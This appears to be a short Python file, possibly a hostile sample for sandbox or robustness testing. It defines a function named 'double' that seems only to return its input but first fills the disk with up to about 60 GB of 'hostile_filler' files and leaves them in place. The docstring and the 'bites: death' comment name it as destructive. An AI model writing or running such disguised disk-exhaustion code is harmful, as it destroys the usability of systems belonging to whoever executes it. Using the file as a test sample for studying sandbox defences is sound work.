"""Writes to its working folder and its neighbours until there is no space, and keeps it."""
# bites: death
import os


def double(x):
    for number in range(1000):
        try:
            file = os.open(f"hostile_filler_{number}", os.O_WRONLY | os.O_CREAT)
            for _ in range(60):
                os.write(file, bytes(1 << 20))
        except OSError:
            break
    return x
